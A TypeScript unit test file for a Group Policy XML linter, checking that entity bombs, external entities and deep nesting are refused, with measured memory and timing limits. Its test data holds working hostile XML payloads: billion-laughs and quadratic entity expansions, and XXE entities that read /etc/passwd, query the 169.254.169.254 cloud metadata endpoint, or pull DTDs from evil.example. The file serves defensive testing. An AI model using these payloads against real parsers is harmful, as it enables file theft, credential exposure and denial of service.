/**
 * Hostile XML through the whole product path (parseBytes → parser → lint), for GPP Registry.xml,
 * GPO reports and RSoP reports: entity bombs, external entities, parameter entities, DOCTYPEs,
 * entity references in attributes, deep nesting, a 50 MB report and 1 MB lines.
 * (test/unit/parsers/xml.test.ts covers the reader alone.)
 *
 * LIMITS AND MEASURED FIGURES (2-core VM shared with other jobs, Node 20). Re-measure with
 *   node -e "require('fs').writeFileSync('/tmp/r.xml', require('./.test-out/test/unit/robustness/child.js').bigReport(50e6, 'utf8'))"
 *   node --max-old-space-size=256 .test-out/test/unit/robustness/child.js --robust-child file gpreport.xml /tmp/r.xml
 * - Files over LIMITS.maxFileBytes (64 MiB) are not read: one `file.limit` finding says so.
 * - XML nesting deeper than LIMITS.maxXmlDepth (256) is not read: one `file.limit` finding; 100,000
 *   levels take about 20 ms.
 * - DOCTYPEs and entity declarations are refused (`file.unsafe-xml`), never expanded or fetched.
 * - Memory of the XML tree: about 280 bytes per element, down from about 560 (xml.ts: spans are
 *   numbers materialised on access, elements without attributes/children share frozen empty arrays,
 *   whitespace-only texts are shared, text runs are joined once). The tree lives only while a file
 *   is parsed; the settings keep their own small spans.
 * - 50 MB GPO report (real SecurityOptions and Policy elements repeated: 218,000 elements as
 *   UTF-16LE + BOM, 435,000 as UTF-8), parsed from its bytes read from disk (95 MB RSS before):
 *     UTF-16LE: parse 0.4–1.0 s, lint < 0.1 s, peak RSS 250–256 MB (was 316 MB);
 *     UTF-8:    parse 0.8–1.7 s, lint 0.1–0.2 s, peak RSS 355–380 MB (was 500 MB, and it ran out
 *               of memory in a 256 MB V8 heap; it now completes there).
 *   Budget asserted below: the child runs with --max-old-space-size=256, its RSS grows by less than
 *   384 MB while parsing, and parse + lint stay under 50× the typical per-byte time of the real report.
 * - 1 MB lines (a report on one line, a 1 MB attribute value, 1 MB of '<' or '&', a 1 MB start tag,
 *   1 MB INF and .reg lines): each parses in under 0.1 s. Problem messages used to quote whole
 *   names and values (a 1 MB key name gave a 1 MB message): xml.ts, gpp.ts and report.ts now quote
 *   at most 100–400 characters. Open (catalog, not in this suite's files): a finding about a 1 MB
 *   string value still repeats the whole value in its message (catalog/smb.ts `describe()`).
 */
import { assertTime } from '../../helpers/timing';
import assert from 'node:assert/strict';
import * as path from 'node:path';
import { describe, test } from 'node:test';
import { LIMITS } from '../../../server/src/core/limits';
import { parseBytes, parseText } from '../../../server/src/core/parse';
import type { Finding, ParsedFile } from '../../../server/src/core/types';
import { checkAll, GPP_HEAD, gppItem, LINT_OPTIONS, REPORT_NS, reportWith, timed } from './support';

// The parsers must not touch the network, whatever the file says: record any attempt in this process.
// eslint-disable-next-line @typescript-eslint/no-require-imports -- a plain script that patches the network modules
require(path.join(__dirname, '../../../../test/helpers/no-network.js'));
const attempts = (): unknown[] => (globalThis as unknown as { __relaylintNetworkAttempts?: unknown[] }).__relaylintNetworkAttempts ?? [];

const OPTIONS = LINT_OPTIONS[0];

const rsopWith = (inner: string) => `<Rsop ${REPORT_NS.replace('Settings"', 'Rsop"')}>\n  <ComputerResults>${inner}</ComputerResults>\n</Rsop>\n`;

const KEY = 'MACHINE\\System\\CurrentControlSet\\Services\\LanManServer\\Parameters\\RequireSecuritySignature';

const BILLION_LAUGHS =
  '<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n' +
  Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">\n`).join('') +
  ']>\n';
const QUADRATIC = `<!DOCTYPE x [<!ENTITY a "${'A'.repeat(50_000)}">]>\n`;

interface Hostile {
  label: string;
  name: string;
  text: string;
  /** Text that would only appear if an entity were expanded or fetched. */
  forbidden: RegExp;
}

const HOSTILE: Hostile[] = [
  { label: 'billion laughs in Registry.xml (value attribute)', name: 'Registry.xml', text: GPP_HEAD + BILLION_LAUGHS + gppItem('&lol9;'), forbidden: /(lol){2}/ },
  { label: 'billion laughs in a GPO report (element text)', name: 'gpreport.xml', text: BILLION_LAUGHS + reportWith(`${KEY}&lol9;`, '&lol9;'), forbidden: /(lol){2}/ },
  { label: 'billion laughs in an RSoP report', name: 'rsop.xml', text: BILLION_LAUGHS + rsopWith('<Name>&lol9;</Name>'), forbidden: /(lol){2}/ },
  { label: 'quadratic blow-up (one 50 KB entity used 10,000 times)', name: 'Registry.xml', text: QUADRATIC + gppItem('&a;'.repeat(10_000)), forbidden: /A{100}/ },
  {
    label: 'external entity file:///etc/passwd in an attribute',
    name: 'Registry.xml',
    text: GPP_HEAD + '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + gppItem('&xxe;'),
    forbidden: /root:|\/bin\/(ba)?sh/,
  },
  {
    label: 'external entity over http in element text',
    name: 'gpreport.xml',
    text: '<!DOCTYPE GPO [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n' + reportWith(KEY, '&xxe;'),
    forbidden: /ami-id|instance-id/,
  },
  {
    label: 'parameter entities and an external DTD subset',
    name: 'Registry.xml',
    text: GPP_HEAD + '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p; <!ENTITY % q "<!ENTITY leak \'x\'>"> %q;]>\n' + gppItem('&leak;'),
    forbidden: /^x$/,
  },
  {
    label: 'public external DTD only',
    name: 'gpreport.xml',
    text: '<!DOCTYPE GPO PUBLIC "-//evil//DTD//EN" "https://evil.example/gpo.dtd">\n' + reportWith(KEY, '0'),
    forbidden: /evil\.example\/gpo\.dtd.*fetched/,
  },
  {
    label: 'DOCTYPE with an internal subset and entity references inside attributes',
    name: 'Registry.xml',
    text: GPP_HEAD + '<!DOCTYPE r [<!ENTITY one "1"><!ATTLIST Properties value CDATA "&one;">]>\n' + gppItem('0000000&one;'),
    forbidden: /^00000001$/,
  },
  {
    label: 'DOCTYPE inside the root element',
    name: 'Registry.xml',
    text: gppItem('&z;').replace('<Registry ', '<!DOCTYPE x [<!ENTITY z "1">]><Registry '),
    forbidden: /^1$/,
  },
];

/** Every string reachable from the parse result and the findings. */
function* strings(p: ParsedFile, findings: Finding[]): Generator<string> {
  for (const s of p.settings) {
    yield s.key;
    yield s.name;
    yield s.origin;
    if (typeof s.value === 'string') yield s.value;
    if (Array.isArray(s.value)) yield* s.value;
  }
  for (const pr of p.problems) yield pr.message;
  for (const f of findings) {
    yield f.message;
    for (const fix of f.fixes) for (const e of fix.edits) yield e.newText;
  }
}

describe('entities and DOCTYPEs are refused, never expanded or fetched', () => {
  for (const h of HOSTILE) {
    for (const encoding of ['utf-8', 'utf-16le-bom'] as const) {
      test(`${h.label} (${encoding})`, () => {
        const bytes = encoding === 'utf-8' ? Buffer.from(h.text, 'utf8') : Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(h.text, 'utf16le')]);
        const heapBefore = process.memoryUsage().heapUsed;
        const { value: p, ms } = timed(() => parseBytes(h.name, bytes));
        const findings = checkAll(h.name, p, bytes.length, OPTIONS, { everyFix: true, idempotent: true });
        const heapGrowth = process.memoryUsage().heapUsed - heapBefore;
        assertTime(ms < 250, `${ms.toFixed(1)} ms`);
        assert.ok(heapGrowth < 64 * 1024 * 1024, `heap grew by ${(heapGrowth / 1e6).toFixed(1)} MB`);
        const unsafe = findings.filter((f) => f.ruleId === 'file.unsafe-xml');
        assert.ok(unsafe.length >= 1, `no file.unsafe-xml finding: ${findings.map((f) => f.ruleId)}`);
        assert.equal(unsafe[0].severity, 'error');
        assert.match(unsafe[0].message, /DOCTYPE declaration refused/);
        // No expansion: nothing in the result is longer than the input or looks expanded.
        for (const s of strings(p, findings)) {
          assert.ok(s.length <= h.text.length, `a ${s.length}-character string from a ${h.text.length}-character file`);
          assert.doesNotMatch(s, h.forbidden);
        }
        // Where a setting was read, its value is the reference as written.
        for (const s of p.settings) if (typeof s.value === 'string' && s.value.includes('&')) assert.match(s.value, /^([^&]*&[A-Za-z0-9]+;)+[^&]*$/);
        assert.deepEqual(attempts(), []);
      });
    }
  }

  test('an entity reference in a value without any DOCTYPE is a parse problem, left as written', () => {
    const p = parseText('Registry.xml', GPP_HEAD + gppItem('&lol;'));
    const findings = checkAll('Registry.xml', p, undefined, OPTIONS);
    assert.deepEqual(p.settings.map((s) => s.value), ['&lol;']);
    assert.ok(findings.some((f) => f.ruleId === 'file.parse' && /&lol;/.test(f.message)));
  });
});

describe('size and shape limits', () => {
  test('100,000 levels of nesting: one file.limit finding, bounded time, later siblings still read', () => {
    const n = 100_000;
    const cases: [string, string][] = [
      ['Registry.xml', GPP_HEAD + '<RegistrySettings>' + '<Collection>'.repeat(n) + '</Collection>'.repeat(n) + gppItem('1').replace(/^<RegistrySettings[^>]*>/, '')],
      ['gpreport.xml', `<GPO ${REPORT_NS}><Computer>${'<x>'.repeat(n)}${'</x>'.repeat(n)}</Computer></GPO>`],
      ['rsop.xml', rsopWith('<a>'.repeat(n) + '</a>'.repeat(n))],
      ['gpreport.xml', `<GPO ${REPORT_NS}>${'<x>'.repeat(n)}`],
    ];
    for (const [name, text] of cases) {
      const bytes = Buffer.from(text, 'utf8');
      const { value: p, ms } = timed(() => parseBytes(name, bytes));
      const findings = checkAll(name, p, bytes.length, OPTIONS);
      assertTime(ms < 2000, `${name}: ${ms.toFixed(0)} ms`);
      const limit = findings.filter((f) => f.ruleId === 'file.limit');
      assert.equal(limit.length, 1, name);
      assert.match(limit[0].message, new RegExp(`deeper than ${LIMITS.maxXmlDepth} levels`));
    }
    // The GPP item after the deep collection is read.
    const p = parseBytes('Registry.xml', Buffer.from(cases[0][1], 'utf8'));
    assert.deepEqual(p.settings.map((s) => s.name), ['RequireSecuritySignature']);
  });

  test('a file over LIMITS.maxFileBytes is not read, with a clear message', () => {
    const bytes = Buffer.alloc(LIMITS.maxFileBytes + 1, 0x20);
    const { value: p, ms } = timed(() => parseBytes('gpreport.xml', bytes));
    const findings = checkAll('gpreport.xml', p, bytes.length, OPTIONS);
    assertTime(ms < 100, `${ms} ms`);
    assert.deepEqual(findings.map((f) => f.ruleId), ['file.limit']);
    assert.match(findings[0].message, /relaylint reads files up to 67108864 bytes \(64 MiB\)\. It was not checked\./);
  });
});

// The 50 MB report and the 1 MB lines (large, timed) are in test/slow/large-inputs.slow.test.ts (npm run test:slow).
